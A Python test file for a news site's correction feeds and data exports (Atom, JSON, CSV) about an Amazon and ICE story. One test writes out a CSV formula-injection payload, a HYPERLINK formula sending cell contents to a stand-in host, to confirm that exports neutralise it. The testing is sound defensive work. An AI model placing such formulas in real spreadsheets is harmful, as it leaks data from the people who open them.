"""A story's feeds and its data: a new entry for each change, and nothing that runs anywhere."""

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import feedparser
import httpx2
import pytest
from lxml import etree, html

from digest.desk.public.data import COLUMNS
from digest.ledger import Ledger
from digest.model import ChangeKind
from digest.values import Count

from .recorded import CONFIG, Site, enter, fill, said

DOCS = Path(__file__).parents[2] / "docs" / "record.md"


def atom(site: Site, story: str) -> feedparser.FeedParserDict:
    answer = site.get(f"/feeds/{story}.atom")
    assert answer.headers["content-type"].startswith("application/atom+xml")
    parsed = feedparser.parse(answer.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    return parsed


def items(site: Site, story: str) -> list[dict[str, str]]:
    found: list[dict[str, str]] = site.get(f"/feeds/{story}.json").json()["items"]
    return found


# ── entries ────────────────────────────────────────────────────────────────────────────


def test_a_feed_has_an_entry_for_each_change_the_newest_first(site: Site) -> None:
    feed = atom(site, "amazon-ice")
    assert feed.version == "atom10"
    assert feed.feed.title == "Amazon & ICE – On the Record"
    assert [entry.title for entry in feed.entries] == [
        "Withheld: Who wrote the emails?",
        "Contradicted: Does ICE have a contract with Amazon?",
        "First report: Does ICE have a contract with Amazon?",
        "Corrected: How many times have Amazon and ICE met?",
        "First report: How many times have Amazon and ICE met?",
    ]
    assert feed.entries[3].id == "https://record.example/amazon-ice/meetings#c2"
    assert feed.entries[3].updated == feed.feed.updated == "2018-10-24T16:00:00Z"
    told = html.fromstring(feed.entries[3].content[0].value).text_content()
    assert "Was:" in told
    assert "Three meetings" in told
    assert "We wrote three meetings; it was one." in told


def test_both_feeds_tell_the_same(site: Site) -> None:
    entries = atom(site, "amazon-ice").entries
    assert [(i["id"], i["title"], i["date_published"]) for i in items(site, "amazon-ice")] == [
        (entry.id, entry.title, entry.published) for entry in entries
    ]


def test_addresses_of_entries_lead_to_their_rows(site: Site) -> None:
    for item in items(site, "amazon-ice"):
        path, _, row = item["url"].removeprefix("https://record.example").partition("#")
        assert site.page(path).get_element_by_id(row) is not None


def test_a_new_change_is_a_new_entry_and_no_other_is_altered(
    start: Callable[[str], tuple[str, Ledger]],
) -> None:
    url, ledger = start(CONFIG)
    fill(ledger)
    site = Site(url)
    known = items(site, "amazon-ice")
    with ledger.writing() as tx:
        two = said("meetings", "Meridian Post", value=Count(low=2, high=2), evidence="Twice.")
        enter(tx, ChangeKind.CONTRADICTED, None, two)
    new, *others = items(site, "amazon-ice")
    assert "“Twice.”" in new["content_html"]
    assert others == known


def test_pages_name_their_feeds(site: Site) -> None:
    for path in ("/amazon-ice", "/amazon-ice/meetings"):
        for link in site.page(path).xpath("//link[@rel='alternate']"):
            answer = site.get(link.get("href"))
            assert answer.status_code == 200
            assert answer.headers["content-type"].startswith(link.get("type"))


# ── asked again ────────────────────────────────────────────────────────────────────────

FOLLOWED = [
    "/feeds/amazon-ice.atom",
    "/feeds/amazon-ice.json",
    "/api/amazon-ice.csv",
    "/api/amazon-ice.json",
]


@pytest.mark.parametrize("path", FOLLOWED)
def test_whoever_has_it_already_is_told_so(site: Site, path: str) -> None:
    first = site.get(path)
    for asked, expected in [
        ({"If-None-Match": first.headers["etag"]}, 304),
        ({"If-None-Match": f'"other", W/{first.headers["etag"]}'}, 304),
        ({"If-Modified-Since": first.headers["last-modified"]}, 304),
        ({"If-None-Match": '"other"', "If-Modified-Since": first.headers["last-modified"]}, 200),
        ({"If-Modified-Since": "Mon, 01 Jan 2018 00:00:00 GMT"}, 200),
        ({"If-Modified-Since": "whenever"}, 200),
    ]:
        again = httpx2.get(site.url + path, headers=asked)
        assert again.status_code == expected, asked
        assert again.headers["etag"] == first.headers["etag"]
        assert bool(again.content) is (expected == 200)


# ── the data itself ────────────────────────────────────────────────────────────────────


def rows(site: Site, story: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(site.get(f"/api/{story}.csv").text, newline="")))


def test_the_record_is_handed_out_in_the_contracts_shapes(site: Site) -> None:
    body = site.get("/api/amazon-ice.json").json()
    assert [one["claim"] for one in body["standing"]] == ["meetings", "contract", "author", "price"]
    assert [one["state"] for one in body["standing"]] == ["agreed", "disputed", "withheld", "empty"]
    assert [one["change"] for one in body["changes"]] == [
        "first", "corrected", "first", "contradicted", "withheld",
    ]  # fmt: skip
    assert body["changes"][1]["before"]["evidence"] == "They met three times over the summer."


def test_the_csv_has_a_row_for_each_change(site: Site) -> None:
    found = rows(site, "amazon-ice")
    assert [row["change"] for row in found] == [
        "first", "corrected", "first", "contradicted", "withheld",
    ]  # fmt: skip
    assert found[1]["notice"] == "We wrote three meetings; it was one."
    assert json.loads(found[1]["after_says"])["low"] == 1
    assert (found[0]["after_standing"], found[1]["after_standing"]) == ("no", "yes")
    assert found[0]["announced"] == ""  # nothing was taken back


def test_every_column_is_explained() -> None:
    told = set(re.findall(r"`(\w+)`", DOCS.read_text("utf-8")))
    columns = {name.removeprefix("after_").removeprefix("before_") for name in COLUMNS}
    assert columns - told == set()


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_cell_is_a_formula(start: Callable[[str], tuple[str, Ledger]], begins: str) -> None:
    url, ledger = start(CONFIG)
    attack = f'{begins}HYPERLINK("https://e.example/"&A1),\r\n"x'
    with ledger.writing() as tx:
        hostile = said("author", attack, speaker=attack, evidence=attack, scope=attack)
        enter(tx, ChangeKind.FIRST, None, hostile)
    (row,) = rows(Site(url), "amazon-ice")
    assert row["after_evidence"] == row["after_outlet"] == row["after_scope"] == f"'{attack}"
    assert not [cell for cell in row.values() if cell.startswith(begins)]


# ── hostile publishers ─────────────────────────────────────────────────────────────────


def test_publishers_text_stays_text_in_feeds(site: Site) -> None:
    for content in (
        *(entry.content[0].value for entry in atom(site, "hostile").entries),
        *(item["content_html"] for item in items(site, "hostile")),
    ):
        shown = html.fromstring(content)
        tags = {element.tag for element in shown.iter()}
        assert tags <= {"div", "p", "strong", "blockquote", "a"}
        assert not set("\u202e\u2066") & set(content)
        assert all(link.startswith("https://") for link in shown.xpath("//@href"))
    raw = site.get("/feeds/hostile.atom").content
    tags = {etree.QName(element).localname for element in etree.fromstring(raw).iter()}
    assert tags == {
        "feed", "id", "title", "link", "updated", "author", "name", "entry", "published",
        "category", "content",
    }  # fmt: skip
